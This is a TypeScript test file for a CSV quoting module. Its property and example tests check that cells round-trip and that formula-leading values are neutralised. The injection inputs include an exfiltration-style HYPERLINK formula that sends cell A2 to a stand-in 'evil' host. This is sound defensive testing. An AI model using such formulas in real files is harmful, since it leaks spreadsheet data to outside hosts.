import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvText, quoteCsv } from '../../src/shared/quoteCsv.ts'

/** The text that a reader of CSV finds in a cell. */
const read = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)

/** The records of a file of CSV, as RFC 4180 has them. */
function recordsOf(text: string): string[][] {
  const records: string[][] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  for (let record: string[] = [], found = cell.exec(text); found; found = cell.exec(text)) {
    record.push(found[1]?.replaceAll('""', '"') ?? found[2]!)
    if (found[3] === ',') continue
    records.push(record)
    record = []
  }
  return records
}

describe('a file of CSV', () => {
  it('has the cells that it was made of, whatever they hold, and no formula', () => {
    const part = fc.constantFrom('=', '+', '-', '@', '"', '""', ',', '\r\n', '\n', '\t', "'", '＝', 'a', ' ')
    const cell = fc.oneof(
      fc.array(part, { maxLength: 6 }).map((parts) => parts.join('')),
      fc.string(),
      fc.double(),
    )
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (lines) => {
        const found = recordsOf(csvText(lines))
        expect(found.map((record) => record.length)).toEqual(lines.map((line) => line.length))
        for (const [i, line] of lines.entries()) {
          for (const [j, given] of line.entries()) {
            const read = found[i]![j]!
            if (typeof given === 'number') expect(Number(read)).toBe(given + 0)
            else expect([given, `'${given}`]).toContain(read)
            if (typeof given === 'string') expect(read).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
          }
        }
      }),
      { numRuns: 1000 },
    )
  })
})

describe('a cell of CSV', () => {
  it.each(['plain', '', 'a,b', 'a"b', 'two\nlines', 'carriage\rreturn', "'quoted'", 'a=b', '1-2'])(
    'is %j so that it reads back',
    (cell) => {
      const quoted = quoteCsv(cell)
      expect(read(quoted)).toBe(cell)
      expect(/[,\r\n"]/.test(cell)).toBe(quoted.startsWith('"'))
    },
  )

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '=HYPERLINK("http://evil/?x="&A2,"step")'])(
    'is no formula: %j',
    (cell) => {
      expect(read(quoteCsv(cell))).toBe(`'${cell}`)
    },
  )

  it.each([-1, 1e-300, 0.1 + 0.2, -0.5, Infinity])('is the number %d with all its digits', (value) => {
    expect(Number(quoteCsv(value))).toBe(value)
  })
})
